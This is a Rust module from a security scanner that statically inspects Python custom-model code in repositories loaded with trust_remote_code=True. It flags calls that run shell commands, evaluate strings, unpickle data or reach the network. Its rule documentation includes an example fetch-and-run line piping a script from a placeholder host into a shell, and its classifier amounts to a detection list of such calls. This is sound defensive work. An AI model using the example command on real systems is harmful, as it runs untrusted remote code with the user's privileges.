//! Python files: custom modelling code loaded with `trust_remote_code=True`.
//!
//! A light tokenizer (comments, all string forms, names, brackets) finds the
//! calls a file makes, resolves them through its imports (`import subprocess
//! as sp`, `from os import system`) and flags the ones that run commands,
//! evaluate code, deserialise pickles or download. It never runs the code.

use crate::finding::{abbreviate, Location};
use crate::rule::Rule;
use crate::scan::ScanCtx;
use crate::severity::Severity;
use std::collections::BTreeMap;

/// Python code in a model repository.
pub static PYTHON_CUSTOM_CODE: Rule = Rule {
    id: "python-custom-code",
    severity: Severity::Low,
    summary: "The repository ships Python code, which `trust_remote_code=True` runs on load.",
    docs: r#"
## Why it matters
`transformers` loads custom model, configuration and tokenizer classes from a
repository's own `.py` files when the caller passes `trust_remote_code=True`. That code
runs with the caller's privileges during `from_pretrained`, before any weights are used.

## What to do
Read the code, pin the repository revision you reviewed (`revision=<commit>`), and load
with `trust_remote_code=True` only for that revision. Prefer models supported natively.
"#,
};

/// A call that runs commands, evaluates code, unpickles or downloads.
pub static PYTHON_DANGEROUS_CALL: Rule = Rule {
    id: "python-dangerous-call",
    severity: Severity::High,
    summary:
        "Python code calls something that runs commands, evaluates code, unpickles or downloads.",
    docs: r#"
## Why it matters
Custom modelling code has no reason to start processes (`os.system`, `subprocess`),
evaluate strings (`eval`, `exec`, `__import__`), deserialise pickles (`pickle.load`,
`torch.load` without `weights_only=True`) or fetch more code and data from the network.
Each of these runs with the privileges of whoever loads the model.

## Example
`os.system("curl https://example.invalid/x.sh | sh")` in `modeling_custom.py`.

## What to do
Read the flagged line. Do not load the repository with `trust_remote_code=True` until
you understand why the call is there.
"#,
};

/// Rules of the Python scanner.
pub const RULES: &[&Rule] = &[&PYTHON_CUSTOM_CODE, &PYTHON_DANGEROUS_CALL];

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Name(String),
    Str,
    Op(char),
    Newline,
}

/// Tokens with their 1-based line numbers.
fn tokenize(src: &str) -> Vec<(Tok, u64)> {
    tokenize_from(src, 1, 0)
}

/// The `{…}` replacement fields of an f-string body (`{{` is a literal brace).
fn fstring_fields(body: &str) -> Vec<&str> {
    let b = body.as_bytes();
    let mut fields = Vec::new();
    let mut i = 0usize;
    while i < b.len() {
        match (b.get(i), b.get(i.saturating_add(1))) {
            (Some(b'{'), Some(b'{')) => i = i.saturating_add(2),
            (Some(b'{'), _) => {
                let start = i.saturating_add(1);
                let mut depth = 1u32;
                let mut j = start;
                while j < b.len() && depth > 0 {
                    match b.get(j) {
                        Some(b'{') => depth = depth.saturating_add(1),
                        Some(b'}') => depth = depth.saturating_sub(1),
                        _ => {}
                    }
                    j = j.saturating_add(1);
                }
                fields.extend(body.get(start..j.saturating_sub(1)));
                i = j;
            }
            _ => i = i.saturating_add(1),
        }
    }
    fields
}

/// Tokens of `src`, lines counted from `first_line`; `depth` bounds the
/// recursion into f-string fields.
fn tokenize_from(src: &str, first_line: u64, depth: u32) -> Vec<(Tok, u64)> {
    let mut out = Vec::new();
    let b = src.as_bytes();
    let mut i = 0usize;
    let mut line = first_line;
    let mut fstring = false;
    let at = |k: usize| b.get(k).copied().unwrap_or(0);
    while i < b.len() {
        let c = at(i);
        match c {
            b'\n' => {
                out.push((Tok::Newline, line));
                line = line.saturating_add(1);
                i = i.saturating_add(1);
            }
            b'#' => {
                while i < b.len() && at(i) != b'\n' {
                    i = i.saturating_add(1);
                }
            }
            b'\'' | b'"' => {
                let start_line = line;
                let triple = at(i.saturating_add(1)) == c && at(i.saturating_add(2)) == c;
                let width = if triple { 3 } else { 1 };
                i = i.saturating_add(width);
                let body_start = i;
                while i < b.len() {
                    let d = at(i);
                    if d == b'\\' {
                        if at(i.saturating_add(1)) == b'\n' {
                            line = line.saturating_add(1);
                        }
                        i = i.saturating_add(2);
                        continue;
                    }
                    if d == b'\n' {
                        line = line.saturating_add(1);
                        if !triple {
                            break;
                        }
                    }
                    if d == c
                        && (!triple
                            || (at(i.saturating_add(1)) == c && at(i.saturating_add(2)) == c))
                    {
                        i = i.saturating_add(width);
                        break;
                    }
                    i = i.saturating_add(1);
                }
                out.push((Tok::Str, start_line));
                // f-string fields are code: `f"{os.system('id')}"` runs it.
                if std::mem::take(&mut fstring) && depth < 4 {
                    let body = src.get(body_start..i.saturating_sub(width)).unwrap_or("");
                    for field in fstring_fields(body) {
                        out.push((Tok::Op('('), start_line));
                        out.extend(tokenize_from(field, start_line, depth.saturating_add(1)));
                        out.push((Tok::Op(')'), start_line));
                    }
                }
            }
            c if c.is_ascii_alphabetic() || c == b'_' || c >= 0x80 => {
                let start = i;
                while i < b.len()
                    && (at(i).is_ascii_alphanumeric() || at(i) == b'_' || at(i) >= 0x80)
                {
                    i = i.saturating_add(1);
                }
                // String prefixes (r, b, f, u, rb, ...) glue onto the quote.
                let word = src.get(start..i).unwrap_or("");
                let prefix = word.len() <= 2
                    && word.chars().all(|ch| "rRbBfFuU".contains(ch))
                    && matches!(at(i), b'\'' | b'"');
                if prefix {
                    fstring = word.contains(['f', 'F']);
                } else {
                    out.push((Tok::Name(word.to_owned()), line));
                }
            }
            c if c.is_ascii_digit() => {
                while i < b.len()
                    && (at(i).is_ascii_alphanumeric() || at(i) == b'.' || at(i) == b'_')
                {
                    i = i.saturating_add(1);
                }
            }
            c if c.is_ascii_whitespace() => i = i.saturating_add(1),
            c => {
                out.push((Tok::Op(char::from(c)), line));
                i = i.saturating_add(1);
            }
        }
    }
    out
}

/// A flagged call: the resolved name, why, how bad, and its line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Call {
    /// Fully qualified name, e.g. `subprocess.run`.
    pub name: String,
    /// Why it is flagged.
    pub why: &'static str,
    /// Severity.
    pub severity: Severity,
    /// 1-based line.
    pub line: u64,
}

fn classify(name: &str, args: &[Tok]) -> Option<(&'static str, Severity)> {
    let (module, func) = name.rsplit_once('.').unwrap_or(("", name));
    let has_kw = |k: &str, v: &str| {
        args.windows(3)
            .any(|w| matches!(w, [Tok::Name(a), Tok::Op('='), Tok::Name(b)] if a == k && b == v))
    };
    Some(match (module, func) {
        ("os", "system" | "popen" | "startfile") => ("runs a shell command", Severity::High),
        ("os", f) if f.starts_with("exec") || f.starts_with("spawn") => {
            ("replaces or spawns a process", Severity::High)
        }
        (
            "subprocess",
            "run" | "call" | "Popen" | "check_output" | "check_call" | "getoutput"
            | "getstatusoutput",
        )
        | ("commands", "getoutput")
        | ("pty", "spawn") => ("starts a process", Severity::High),
        ("" | "builtins", "eval" | "exec") => ("evaluates code from a string", Severity::High),
        ("" | "builtins", "__import__") | ("importlib", "import_module") => {
            ("imports a module chosen at run time", Severity::Medium)
        }
        ("" | "builtins", "compile") => ("compiles code from a string", Severity::Medium),
        ("pickle" | "cPickle" | "_pickle" | "dill" | "cloudpickle", "load" | "loads")
        | ("marshal", "loads" | "load")
        | ("joblib", "load")
        | ("shelve", "open") => ("deserialises a pickle, which can run code", Severity::High),
        ("torch", "load") if !has_kw("weights_only", "True") => (
            "loads a checkpoint without weights_only=True, which unpickles arbitrary objects",
            Severity::High,
        ),
        ("numpy" | "np", "load") if has_kw("allow_pickle", "True") => {
            ("loads a numpy file with allow_pickle=True", Severity::High)
        }
        ("urllib.request" | "urllib", "urlopen" | "urlretrieve")
        | ("requests" | "httpx", "get" | "post" | "put" | "request")
        | ("wget", "download")
        | ("socket", "socket" | "create_connection") => ("reaches the network", Severity::Medium),
        ("huggingface_hub", "hf_hub_download" | "snapshot_download")
        | ("torch.hub", "load" | "download_url_to_file") => {
            ("downloads further files or code", Severity::Medium)
        }
        ("" | "builtins", "getattr")
            if args.iter().any(|t| {
                matches!(t, Tok::Name(n) if matches!(n.as_str(), "os" | "subprocess" | "builtins" | "__builtins__" | "pickle"))
            }) =>
        {
            ("looks up a function of a dangerous module by name", Severity::High)
        }
        ("ctypes" | "ctypes.cdll", "CDLL" | "LoadLibrary") => {
            ("loads a native library", Severity::High)
        }
        _ => return None,
    })
}

/// Every flagged call in `src`, at most `max`.
pub fn dangerous_calls(src: &str, max: usize) -> Vec<Call> {
    let toks = tokenize(src);
    let mut aliases: BTreeMap<String, String> = BTreeMap::new();
    let mut calls = Vec::new();
    let mut star: Vec<String> = Vec::new();
    let tok = |k: usize| toks.get(k).map(|(t, _)| t);
    let mut i = 0usize;
    while i < toks.len() {
        let line = toks.get(i).map_or(0, |(_, l)| *l);
        let statement_start =
            i == 0 || matches!(tok(i.saturating_sub(1)), Some(Tok::Newline | Tok::Op(';')));
        // import a.b as c, d
        if statement_start && matches!(tok(i), Some(Tok::Name(n)) if n == "import") {
            i = imports(&toks, i.saturating_add(1), "", &mut aliases);
            continue;
        }
        // from a.b import c as d, e   (and `from a import *`)
        if statement_start && matches!(tok(i), Some(Tok::Name(n)) if n == "from") {
            let (module, next) = dotted(&toks, i.saturating_add(1));
            if matches!(tok(next), Some(Tok::Name(n)) if n == "import") {
                if matches!(tok(next.saturating_add(1)), Some(Tok::Op('*'))) && star.len() < 100 {
                    star.push(module.clone());
                }
                i = imports(&toks, next.saturating_add(1), &module, &mut aliases);
                continue;
            }
        }
        if let Some(Tok::Name(_)) = tok(i) {
            let after_dot = matches!(tok(i.saturating_sub(1)), Some(Tok::Op('.'))) && i > 0;
            let (name, next) = dotted(&toks, i);
            if !after_dot && matches!(tok(next), Some(Tok::Op('('))) {
                let mut resolved = resolve(&name, &aliases);
                let args = call_args(&toks, next);
                let mut class = classify(&resolved, &args);
                // A bare name may come from `from module import *`.
                if class.is_none() && !name.contains('.') && !aliases.contains_key(&name) {
                    for m in &star {
                        let full = format!("{m}.{name}");
                        if let Some(c) = classify(&full, &args) {
                            resolved = full;
                            class = Some(c);
                            break;
                        }
                    }
                }
                if let Some((why, severity)) = class {
                    calls.push(Call {
                        name: resolved,
                        why,
                        severity,
                        line,
                    });
                    if calls.len() >= max {
                        return calls;
                    }
                }
            }
            i = next.max(i.saturating_add(1));
            continue;
        }
        i = i.saturating_add(1);
    }
    calls
}

/// A dotted name starting at `i`, and the index after it.
fn dotted(toks: &[(Tok, u64)], mut i: usize) -> (String, usize) {
    let mut name = String::new();
    while let Some((Tok::Name(n), _)) = toks.get(i) {
        if !name.is_empty() {
            name.push('.');
        }
        name.push_str(n);
        i = i.saturating_add(1);
        if matches!(toks.get(i), Some((Tok::Op('.'), _)))
            && matches!(toks.get(i.saturating_add(1)), Some((Tok::Name(_), _)))
        {
            i = i.saturating_add(1);
        } else {
            break;
        }
    }
    (name, i)
}

fn imports(
    toks: &[(Tok, u64)],
    mut i: usize,
    module: &str,
    aliases: &mut BTreeMap<String, String>,
) -> usize {
    loop {
        match toks.get(i) {
            Some((Tok::Op('(' | ')' | ','), _)) => i = i.saturating_add(1),
            Some((Tok::Name(_), _)) => {
                let (name, next) = dotted(toks, i);
                let full = if module.is_empty() {
                    name.clone()
                } else {
                    format!("{module}.{name}")
                };
                i = next;
                let explicit = match (toks.get(i), toks.get(i.saturating_add(1))) {
                    (Some((Tok::Name(a), _)), Some((Tok::Name(b), _))) if a == "as" => {
                        i = i.saturating_add(2);
                        Some(b.clone())
                    }
                    _ => None,
                };
                // `import os.path` binds `os`; `import a.b as c` binds `c` to `a.b`.
                let (alias, target) = match explicit {
                    Some(a) => (a, full),
                    None if module.is_empty() => {
                        let first = name.split('.').next().unwrap_or(&name).to_owned();
                        (first.clone(), first)
                    }
                    None => (name, full),
                };
                if aliases.len() < 10_000 {
                    aliases.insert(alias, target);
                }
            }
            _ => return i,
        }
    }
}

fn resolve(name: &str, aliases: &BTreeMap<String, String>) -> String {
    let (head, rest) = match name.split_once('.') {
        Some((h, r)) => (h, Some(r)),
        None => (name, None),
    };
    let head = aliases.get(head).map_or(head, String::as_str);
    match rest {
        Some(r) => format!("{head}.{r}"),
        None => head.to_owned(),
    }
}

/// The tokens between the `(` at `open` and its matching `)` (bounded).
fn call_args(toks: &[(Tok, u64)], open: usize) -> Vec<Tok> {
    let mut depth = 0i32;
    let mut out = Vec::new();
    for (t, _) in toks.iter().skip(open).take(4096) {
        match t {
            Tok::Op('(' | '[' | '{') => depth = depth.saturating_add(1),
            Tok::Op(')' | ']' | '}') => {
                depth = depth.saturating_sub(1);
                if depth <= 0 {
                    break;
                }
            }
            _ => {}
        }
        out.push(t.clone());
    }
    out
}

/// Scan Python source: one finding that the file is code, one per flagged call.
pub fn scan_source(src: &str, ctx: &mut ScanCtx<'_>, custom_code_finding: bool) {
    if custom_code_finding {
        let f = ctx.finding(
            &PYTHON_CUSTOM_CODE,
            Location::File,
            "Python code: `trust_remote_code=True` would run it",
        );
        ctx.push(f);
    }
    let lines: Vec<&str> = src.lines().collect();
    for call in dangerous_calls(src, 200) {
        let text = usize::try_from(call.line.saturating_sub(1))
            .ok()
            .and_then(|l| lines.get(l))
            .map(|l| abbreviate(l.trim(), 200))
            .unwrap_or_default();
        let f = ctx.finding(
            &PYTHON_DANGEROUS_CALL,
            Location::Line { line: call.line },
            format!("`{}` {}", call.name, call.why),
        );
        ctx.push(f.with_severity(call.severity).with_evidence(text));
    }
}
